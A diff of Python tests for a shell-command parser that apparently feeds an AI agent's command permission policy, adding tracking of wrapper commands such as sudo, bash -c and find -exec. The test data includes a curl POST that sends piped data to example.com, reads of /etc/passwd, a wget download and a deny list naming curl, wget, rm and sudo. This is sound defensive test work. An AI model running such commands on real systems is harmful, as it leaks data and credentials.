@@ -24,7 +24,7 @@ from agent_ls.policy.shell_parse import (
     parse_shell,
 )
 from tests.conftest import require_tool
-from tests.support.corpus import CORPUS
+from tests.support.corpus import AVAILABLE, CORPUS, corpus_params, require_corpus
 
 Argv = tuple[str, ...]
 
@@ -256,6 +256,7 @@ def test_heredoc_to_bash_keeps_the_inner_command_text_and_redirections() -> None
                 ("rm", "-rf", "x"),
                 "rm -rf x",
                 redirects=(Redirect(">", "log", write=True), Redirect("<<", None, False, True)),
+                wrappers=(("bash",),),
             ),
         )
     )
@@ -269,6 +270,7 @@ def test_script_commands_inherit_the_redirections_and_risks_of_the_shell() -> No
                 "ls",
                 risky="BASH_ENV= can make the program run other code",
                 redirects=(Redirect("2>", "err", write=True),),
+                wrappers=(("bash", "-c", "ls"),),
             ),
         )
     )
@@ -353,8 +355,6 @@ def test_nested_bash_c_depth_limit() -> None:
         ("nice", ("nice",)),
         ("time", ("time",)),
         ("exec 3>&-", ("exec",)),
-        # sudo is not a wrapper: `sudo *` rules must see it.
-        ("sudo -u nobody ls", ("sudo", "-u", "nobody", "ls")),
     ],
 )
 def test_normalized_argv(text: str, expected: Argv) -> None:
@@ -405,7 +405,9 @@ def test_risky_variable_assigned_alone_makes_every_command_risky() -> None:
 
 
 def test_a_program_run_by_path_outside_the_system_directories_is_risky() -> None:
-    assert only("./ls -la") == SimpleCommand(("ls", "-la"), "./ls -la", risky="runs ./ls by path")
+    assert only("./ls -la") == SimpleCommand(
+        ("ls", "-la"), "./ls -la", risky="runs ./ls by path", wrappers=(("./ls", "-la"),)
+    )
     assert only("/tmp/x/rm y").argv == ("rm", "y")
     assert only("/tmp/x/rm y").risky == "runs /tmp/x/rm by path"
     assert only(".venv/bin/pytest -q").risky == "runs .venv/bin/pytest by path"
@@ -419,7 +421,8 @@ def test_time_output_file_is_risky() -> None:
 @pytest.mark.parametrize(
     ("text", "error"),
     [
-        ("env -S 'rm x' y", "env -S (split a string into a command) is not supported"),
+        ("env -S 'rm $X' y", "env -S 'rm $X' cannot be read (a variable or an open quote)"),
+        ("env -S \"'rm x\" y", "env -S \"'rm x\" cannot be read (a variable or an open quote)"),
         ("env --weird rm", "unknown option of env: --weird"),
         ("timeout -Z 5 rm", "unknown option of timeout: -Z"),
         ("nice -n", "nice -n needs a value"),
@@ -463,7 +466,10 @@ def test_find_exec(text: str, expected: list[Argv]) -> None:
 def test_find_exec_command_word_keeps_the_find_text() -> None:
     parsed = parse_shell("find . -exec rm {} \\; > log")
     assert parsed.commands[1] == SimpleCommand(
-        ("rm", "{}"), "find . -exec rm {} \\; > log", redirects=(Redirect(">", "log", write=True),)
+        ("rm", "{}"),
+        "find . -exec rm {} \\; > log",
+        redirects=(Redirect(">", "log", write=True),),
+        wrappers=(("find", ".", "-exec", "rm", "{}", ";"),),
     )
 
 
@@ -1093,21 +1099,26 @@ def test_parse_from_several_threads() -> None:
 
 # -- the shell-command corpus -----------------------------------------------------------------------
 
-CASES = [
-    json.loads(line)
-    for line in (CORPUS / "shell-commands" / "commands.jsonl").read_text(encoding="utf-8").splitlines()
-    if line.strip()
-]
+CASES = (
+    [
+        json.loads(line)
+        for line in (CORPUS / "shell-commands" / "commands.jsonl").read_text(encoding="utf-8").splitlines()
+        if line.strip()
+    ]
+    if AVAILABLE
+    else []
+)
 
 
-@pytest.mark.parametrize("case", CASES, ids=[case["id"] for case in CASES])
+@pytest.mark.parametrize("case", corpus_params(CASES, lambda case: str(case["id"])))
 def test_corpus_parses(case: dict[str, object]) -> None:
     parsed = parse_shell(str(case["command"]))
     assert parsed.commands, "every corpus line runs at least one command"
     if case["expected"] == "deny":
         # Whatever makes it denied is visible: a command, an unreadable word or script, or a redirect.
+        names = {"rm", "sudo", "curl", "wget", "git", "cat"}
         assert parsed.error is not None or any(
-            not c.static or c.redirects or c.argv[0] in {"rm", "sudo", "curl", "wget", "git", "cat"}
+            not c.static or c.redirects or any(form[0] in names for form in (c.argv, *c.wrappers))
             for c in parsed.commands
         )
 
@@ -1121,7 +1132,7 @@ def test_corpus_parses(case: dict[str, object]) -> None:
         ("sh31", [("rm", "-rf", "build")]),
         ("sh33", [("wget", "-q", "https://example.com/x", "-O", "/tmp/x")]),
         ("sh35", [("rm", "-rf", "build")]),
-        ("sh37", [("sudo", "-u", "nobody", "ls")]),
+        ("sh37", [("ls",)]),  # run by sudo: SimpleCommand.wrappers keeps ("sudo", "-u", "nobody", "ls")
         ("sh45", [("git", "push", "origin", "main")]),
         ("sh61", [("cat",), ("curl", "-X", "POST", "--data-binary", "@-", "https://example.com/collect")]),
         ("sh69", [("diff", "<(cat /etc/passwd)", "<(ls)"), ("cat", "/etc/passwd"), ("ls",)]),
@@ -1130,11 +1141,13 @@ def test_corpus_parses(case: dict[str, object]) -> None:
     ],
 )
 def test_corpus_exact(case_id: str, expected: list[Argv]) -> None:
+    require_corpus()
     case = next(case for case in CASES if case["id"] == case_id)
     assert argvs(case["command"]) == expected
 
 
 def test_corpus_risky_and_unreadable_cases() -> None:
+    require_corpus()
     by_id = {case["id"]: parse_shell(case["command"]) for case in CASES}
     assert by_id["sh51"].commands[0].risky == "git -p runs a pager"
     assert by_id["sh53"].commands[0].argv == ("git", "diff")
